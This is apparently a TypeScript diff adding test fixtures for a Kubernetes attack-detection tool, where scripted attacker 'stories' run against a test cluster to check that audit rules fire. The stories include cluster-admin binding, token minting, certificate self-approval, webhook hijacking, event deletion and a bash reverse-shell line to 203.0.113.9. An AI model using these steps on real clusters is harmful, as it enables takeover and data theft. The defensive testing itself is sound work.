@@ -1,0 +1,356 @@
+import { readFileSync } from "node:fs";
+import { createServer, request, type Server } from "node:https";
+import { join } from "node:path";
+import type { JsonObject } from "@watertight/core/kubernetes";
+import { type Ask, type ControlPlane, createAsk, until } from "../control-plane/index.ts";
+
+/** An attack as it is walked, and what is to be told of it. */
+export interface Story {
+  readonly name: string;
+  /** Who is the root. */
+  readonly root: string;
+  readonly walk: (world: World) => Promise<void>;
+  /** Rules in the order in which their first steps come, and what else the timeline must hold, as `kind subject`. */
+  readonly rules: readonly string[];
+  readonly steps: readonly string[];
+}
+
+/** What stories are walked in. */
+export interface World {
+  readonly plane: ControlPlane;
+  /** Asks as a user with a token of its own. */
+  readonly as: (user: string) => Ask;
+  readonly exec: (user: string, pod: string, command: readonly string[]) => Promise<number>;
+}
+
+/** Attackers have stolen what they ask with. */
+export const ATTACKERS: readonly string[] = Array.from(
+  { length: 10 },
+  (_, index) => `attacker-${index}`,
+);
+
+const RBAC = "/apis/rbac.authorization.k8s.io/v1";
+const CSR = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
+const HOOKS = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";
+
+/** A request for CN=eve-6, O=ops; nobody has its key any more. */
+const REQUEST = `-----BEGIN CERTIFICATE REQUEST-----
+MIHYMIGAAgEAMB4xDjAMBgNVBAMMBWV2ZS02MQwwCgYDVQQKDANvcHMwWTATBgcq
+hkjOPQIBBggqhkjOPQMBBwNCAATzfr5LrkGrAUnTTV5cPeFigavYHcrFZSD7IdAx
+/vW5SnvIo35XizuF4QwAaOHwQaVS6D0vIz8biGsLqV063G1AoAAwCgYIKoZIzj0E
+AwIDRwAwRAIgP6daiCAt2KsDFmTBEq+P+2REeU7jHAPIy47xp4M2Y9UCIAR62WZY
+5/djRZTtDo9Xf16eWsyv1/qgLHhWHWFI0PNz
+-----END CERTIFICATE REQUEST-----
+`;
+
+export const STORIES: readonly Story[] = [
+  {
+    name: "anonymous probing",
+    root: "system:anonymous",
+    walk: async ({ plane }) => {
+      const nobody = identity(plane, "");
+      for (let path = 0; path < 12; path++) await nobody("GET", `/apis/group-${path}`);
+      nobody.close();
+    },
+    rules: ["anonymous-probing"],
+    steps: [],
+  },
+  {
+    name: "secret sweep",
+    root: "attacker-1",
+    walk: async ({ as }) => {
+      for (let secret = 0; secret < 16; secret++)
+        await as("attacker-1")("GET", `/api/v1/namespaces/victim/secrets/s-${secret}`);
+      await as("attacker-1")("GET", "/api/v1/secrets");
+    },
+    rules: ["secrets-read", "secrets-listed-everywhere"],
+    steps: ["detection secrets victim/s-0", "detection secrets victim/s-15", "detection secrets"],
+  },
+  {
+    name: "privileged pod by a controller",
+    root: "attacker-2",
+    walk: async ({ as, plane }) => {
+      const deployments = "/apis/apps/v1/namespaces/victim/deployments";
+      await must(as("attacker-2")("POST", deployments, deployment("miner")));
+      await until("the pod of the Deployment is there", async () => {
+        const { text } = await plane.ask(
+          "GET",
+          "/api/v1/namespaces/victim/pods?labelSelector=app%3Dminer",
+        );
+        return text.includes('"phase":"Running"') || text.includes('"nodeName"');
+      });
+    },
+    rules: ["privileged-pod"],
+    steps: [
+      "detection deployments victim/miner",
+      "consequence replicasets victim/miner-",
+      "consequence pods victim/miner-",
+    ],
+  },
+  {
+    name: "binding to cluster-admin",
+    root: "attacker-3",
+    walk: async ({ as, plane }) => {
+      const subjects = [{ kind: "User", name: "friend", apiGroup: "rbac.authorization.k8s.io" }];
+      const roleRef = {
+        apiGroup: "rbac.authorization.k8s.io",
+        kind: "ClusterRole",
+        name: "cluster-admin",
+      };
+      await must(
+        as("attacker-3")("POST", `${RBAC}/clusterrolebindings`, {
+          metadata: { name: "help" },
+          roleRef,
+          subjects,
+        }),
+      );
+      await until(
+        "the friend may",
+        async () => (await identityOf(plane, "friend")("GET", "/api/v1/secrets")).status === 200,
+      );
+    },
+    rules: ["privileged-role-bound", "secrets-listed-everywhere"],
+    steps: ["detection clusterrolebindings help", "detection secrets"],
+  },
+  {
+    name: "token minting",
+    root: "attacker-4",
+    walk: async ({ as, plane }) => {
+      const path = "/api/v1/namespaces/victim/serviceaccounts/robot/token";
+      const { json } = await must(as("attacker-4")("POST", path, { spec: {} }));
+      const { status } = json as { readonly status: { readonly token: string } };
+      const robot = identity(plane, status.token);
+      await must(robot("GET", "/api/v1/secrets"), 200);
+      robot.close();
+    },
+    rules: ["service-account-token-requested", "secrets-listed-everywhere"],
+    steps: ["detection serviceaccounts/token victim/robot", "detection secrets"],
+  },
+  {
+    name: "certificate of somebody else",
+    root: "attacker-5",
+    walk: async ({ as }) => {
+      const spec = {
+        request: Buffer.from(REQUEST).toString("base64"),
+        signerName: "kubernetes.io/kube-apiserver-client",
+        usages: ["client auth"],
+      };
+      await must(as("attacker-5")("POST", CSR, { metadata: { name: "csr" }, spec }));
+      const now = new Date().toISOString();
+      const condition = { type: "Approved", status: "True", reason: "x", lastUpdateTime: now };
+      const patch = { status: { conditions: [condition] } };
+      await must(as("attacker-5")("PATCH", `${CSR}/csr/approval`, patch), 200);
+    },
+    rules: ["certificate-requested"],
+    steps: [
+      "detection certificatesigningrequests csr",
+      "detection certificatesigningrequests/approval csr",
+    ],
+  },
+  {
+    name: "webhook hijack",
+    root: "attacker-6",
+    walk: async ({ as }) => {
+      const webhooks = [
+        {
+          name: "x.evil.example",
+          clientConfig: { url: "https://203.0.113.9/x" },
+          rules: [
+            {
+              apiGroups: ["x.example"],
+              apiVersions: ["v1"],
+              operations: ["CREATE"],
+              resources: ["none"],
+            },
+          ],
+          sideEffects: "None",
+          admissionReviewVersions: ["v1"],
+          failurePolicy: "Ignore",
+        },
+      ];
+      await must(as("attacker-6")("POST", HOOKS, { metadata: { name: "helper" }, webhooks }));
+      await must(
+        as("attacker-6")("PATCH", `${HOOKS}/helper`, { metadata: { labels: { a: "b" } } }),
+        200,
+      );
+    },
+    rules: ["admission-webhook-created", "admission-webhook-changed"],
+    steps: ["detection mutatingwebhookconfigurations helper"],
+  },
+  {
+    name: "exec with a reverse shell",
+    root: "attacker-7",
+    walk: async ({ exec }) => {
+      const shell = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"];
+      const status = await exec("attacker-7", "target", shell);
+      if (status !== 101) throw new Error(`The exec was answered with ${status}.`);
+    },
+    rules: ["exec-into-pod", "exec-reverse-shell"],
+    steps: ["detection pods/exec victim/target"],
+  },
+  {
+    name: "nodes/proxy",
+    root: "attacker-8",
+    walk: async ({ as }) => {
+      await as("attacker-8")("GET", "/api/v1/nodes/open/proxy/run/victim/target/app?cmd=id");
+    },
+    rules: ["nodes-proxy-used"],
+    steps: ["detection nodes/proxy open"],
+  },
+  {
+    name: "covering tracks",
+    root: "attacker-9",
+    walk: async ({ as }) => {
+      const pods = "/api/v1/namespaces/victim/pods";
+      const containers = [{ name: "a", image: "i", securityContext: { privileged: true } }];
+      await must(as("attacker-9")("POST", pods, { metadata: { name: "flash" }, spec: { containers } }));
+      await must(as("attacker-9")("DELETE", `${pods}/flash?gracePeriodSeconds=0`), 200);
+      await must(as("attacker-9")("DELETE", "/api/v1/namespaces/victim/events"), 200);
+    },
+    rules: ["privileged-pod", "events-deleted"],
+    steps: ["detection pods victim/flash", "activity pods victim/flash", "detection events victim"],
+  },
+];
+
+/** What stories need: Secrets, an account with all rights, a node that answers for a pod. */
+export async function prepare(
+  plane: ControlPlane,
+): Promise<{ readonly world: World; readonly close: () => void }> {
+  const kubelet = await standInKubelet(plane);
+  const address = kubelet.address();
+  const port = typeof address === "object" && address !== null ? address.port : 0;
+  const { ask } = plane;
+  await must(ask("POST", "/api/v1/namespaces", { metadata: { name: "victim" } }));
+  for (let secret = 0; secret < 16; secret++)
+    await must(
+      ask("POST", "/api/v1/namespaces/victim/secrets", { metadata: { name: `s-${secret}` } }),
+    );
+  await must(
+    ask("POST", "/api/v1/namespaces/victim/serviceaccounts", { metadata: { name: "robot" } }),
+  );
+  await must(
+    ask("POST", `${RBAC}/clusterrolebindings`, {
+      metadata: { name: "robot" },
+      roleRef: {
+        apiGroup: "rbac.authorization.k8s.io",
+        kind: "ClusterRole",
+        name: "cluster-admin",
+      },
+      subjects: [{ kind: "ServiceAccount", name: "robot", namespace: "victim" }],
+    }),
+  );
+  await must(ask("POST", "/api/v1/nodes", node("fake", { "kwok.x-k8s.io/node": "fake" })));
+  await must(ask("POST", "/api/v1/nodes", node("open", {})));
+  const status = {
+    addresses: [{ type: "InternalIP", address: "127.0.0.1" }],
+    daemonEndpoints: { kubeletEndpoint: { Port: port } },
+  };
+  await must(ask("PATCH", "/api/v1/nodes/open/status", { status }), 200);
+  await until("the account of pods is there", async () => {
+    const path = "/api/v1/namespaces/victim/serviceaccounts/default";
+    return (await ask("GET", path)).status === 200;
+  });
+  const spec = { nodeName: "open", containers: [{ name: "app", image: "i" }] };
+  await must(ask("POST", "/api/v1/namespaces/victim/pods", { metadata: { name: "target" }, spec }));
+  const asks = new Map<string, Ask>();
+  const as = (user: string): Ask => {
+    const known = asks.get(user) ?? identityOf(plane, user);
+    asks.set(user, known);
+    return known;
+  };
+  return {
+    world: { plane, as, exec: (user, pod, command) => execIn(plane, user, pod, command) },
+    close: () => {
+      kubelet.close();
+      kubelet.closeAllConnections();
+      for (const each of asks.values()) each.close();
+    },
+  };
+}
+
+function identityOf(plane: ControlPlane, user: string): Ask {
+  return identity(plane, plane.tokens.get(user) ?? "");
+}
+
+function identity(plane: ControlPlane, token: string): Ask {
+  return createAsk(
+    { url: plane.url, authority: readFileSync(plane.certs.authority, "utf8") },
+    { token },
+  );
+}
+
+async function must(asked: ReturnType<Ask>, wanted = 201): Promise<Awaited<ReturnType<Ask>>> {
+  const answer = await asked;
+  if (answer.status !== wanted) throw new Error(`${answer.status}, not ${wanted}: ${answer.text}`);
+  return answer;
+}
+
+/** Takes every exec, as a kubelet does, and ends it. */
+async function standInKubelet(plane: ControlPlane): Promise<Server> {
+  const file = (name: string): Buffer => readFileSync(join(plane.folder, name));
+  const server = createServer(
+    { cert: file("server.crt"), key: file("server.key") },
+    (_, answer) => {
+      answer.end("{}");
+    },
+  );
+  server.on("upgrade", (asked, socket) => {
+    const upgrade = asked.headers.upgrade ?? "SPDY/3.1";
+    socket.write(
+      `HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: ${upgrade}\r\n\r\n`,
+    );
+    setTimeout(() => socket.destroy(), 100);
+  });
+  await new Promise<void>((settle) => server.listen(0, "127.0.0.1", settle));
+  return server;
+}
+
+/** The status of an exec over SPDY, as kubectl asked before 1.31. */
+function execIn(
+  plane: ControlPlane,
+  user: string,
+  pod: string,
+  command: readonly string[],
+): Promise<number> {
+  const { hostname, port } = new URL(plane.url);
+  const words = command.map((word) => `command=${encodeURIComponent(word)}`).join("&");
+  return new Promise((settle, fail) => {
+    const asked = request({
+      ...{ hostname, port, method: "POST", ca: readFileSync(plane.certs.authority) },
+      path: `/api/v1/namespaces/victim/pods/${pod}/exec?${words}&container=app&stdout=true`,
+      headers: {
+        Authorization: `Bearer ${plane.tokens.get(user) ?? ""}`,
+        Connection: "Upgrade",
+        Upgrade: "SPDY/3.1",
+        "X-Stream-Protocol-Version": "v4.channel.k8s.io",
+      },
+    });
+    asked.on("upgrade", (answer, socket) => {
+      socket.on("error", () => undefined);
+      socket.destroy();
+      settle(answer.statusCode ?? 0);
+    });
+    asked.on("response", (answer) => {
+      answer.resume();
+      settle(answer.statusCode ?? 0);
+    });
+    asked.on("error", fail);
+    asked.end();
+  });
+}
+
+function node(name: string, annotations: Readonly<Record<string, string>>): JsonObject {
+  const capacity = { cpu: "8", memory: "16Gi", pods: "100" };
+  return { metadata: { name, annotations }, status: { capacity, allocatable: capacity } };
+}
+
+function deployment(name: string): JsonObject {
+  const containers = [{ name: "a", image: "i", securityContext: { privileged: true } }];
+  return {
+    metadata: { name },
+    spec: {
+      selector: { matchLabels: { app: name } },
+      template: { metadata: { labels: { app: name } }, spec: { containers } },
+    },
+  };
+}
